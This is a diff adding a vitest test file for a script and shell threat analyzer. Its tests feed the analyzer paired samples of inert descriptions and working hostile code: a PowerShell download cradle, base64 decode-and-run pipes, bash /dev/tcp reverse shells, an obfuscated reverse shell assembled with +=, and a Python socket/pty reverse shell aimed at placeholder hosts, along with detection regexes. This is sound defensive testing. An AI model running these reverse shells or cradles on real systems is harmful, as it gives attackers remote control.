@@ -1,0 +1,64 @@
+/**
+ * A described attack is not an attack; an assembled one is. Each pair below holds the same technique written
+ * two ways: as text that cannot run (a scanner's regular expression, a decoder fed a placeholder or an elided
+ * blob, a /dev/tcp template) and as code that runs (including words grown piece by piece and a Python shell
+ * whose descriptors are a socket's). Inline and inert: nothing here is executed.
+ */
+import { describe, expect, it } from 'vitest';
+import { analyzeScript } from '../../src/inspect/analyzers/script.js';
+import { analyzeShell } from '../../src/inspect/analyzers/shell.js';
+import { LineIndex, SignalSink } from '../../src/inspect/signals.js';
+
+function signals(text: string, kind: 'script' | 'shell'): string[] {
+  const sink = new SignalSink(kind === 'script' ? 'tool.py' : 'tool.sh', kind);
+  const lines = new LineIndex(text);
+  if (kind === 'script') analyzeScript(text, sink);
+  else analyzeShell(text, sink, (o) => lines.lineOf(o));
+  return [...new Set(sink.signals.map((s) => s.id))];
+}
+
+describe('a pattern that describes code is not the code', () => {
+  it('a PowerShell download cradle in a rule table (regex syntax inside the match) is not remote code; the cradle itself is', () => {
+    const table = 'RULES = [\n  ("ps-cradle", r"(iex|invoke-expression)[^\\n]*(downloadstring|iwr)"),\n  ("py-remote", r"exec\\s*\\(.*urlopen\\s*\\("),\n]\n';
+    expect(signals(table, 'script')).not.toContain('code.eval-remote');
+    const cradle = "iex (New-Object Net.WebClient).DownloadString('http://stage.example.invalid/a.ps1')\n";
+    expect(signals(cradle, 'script')).toContain('code.eval-remote');
+  });
+
+  it('a decoder fed a placeholder or an elided blob runs nothing; fed data, it is decode-and-run', () => {
+    for (const described of ["echo ... | base64 -d | bash\n", "echo '<payload>' | base64 --decode | sh\n", "echo 'Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlk...' | base64 -D | bash\n"])
+      expect(signals(described, 'shell'), described).not.toContain('shell.base64-exec');
+    expect(signals("echo 'Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaA==' | base64 -d | bash\n", 'shell')).toContain('shell.base64-exec');
+  });
+
+  it('/dev/tcp/HOST/PORT is a template; an address is a reverse shell', () => {
+    expect(signals('bash -i >& /dev/tcp/HOST/PORT 0>&1\n', 'shell')).not.toContain('shell.reverse-shell');
+    expect(signals('bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n', 'shell')).toContain('shell.reverse-shell');
+  });
+});
+
+describe('code assembled at run time is read as it will run', () => {
+  it('a shell and a device name grown with += still make a reverse shell', () => {
+    const script = ['b="ba"; b+="sh"', 'd=/dev/t; d+=cp', '"$b" -c "exec $b -i >& $d/192.0.2.10/8443 0>&1" &', ''].join('\n');
+    expect(signals(script, 'shell')).toContain('shell.reverse-shell');
+    // The same pieces, never put together into a connected shell.
+    expect(signals(['b="ba"; b+="sh"', 'd=/dev/t; d+=cp', 'echo "$b $d"', ''].join('\n'), 'shell')).not.toContain('shell.reverse-shell');
+  });
+
+  it("Python: a socket's descriptor copied onto the process's own, then an interactive shell, is a reverse shell", () => {
+    const shell = [
+      'import os, socket, pty',
+      'host = ".".join(str(x) for x in (192, 0, 2, 10))',
+      's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
+      's.connect((host, 443))',
+      'for fd in (0, 1, 2):',
+      '    os.dup2(s.fileno(), fd)',
+      'pty.spawn(["/bin/bash", "-i"])',
+      '',
+    ].join('\n');
+    expect(signals(shell, 'script')).toContain('shell.reverse-shell');
+    // A server handing a connection to a worker process's descriptors starts no shell.
+    const server = ['import os, socket', 'conn, _ = srv.accept()', 'os.dup2(conn.fileno(), 0)', 'os.execv("/usr/bin/worker", ["worker"])', ''].join('\n');
+    expect(signals(server, 'script')).not.toContain('shell.reverse-shell');
+  });
+});
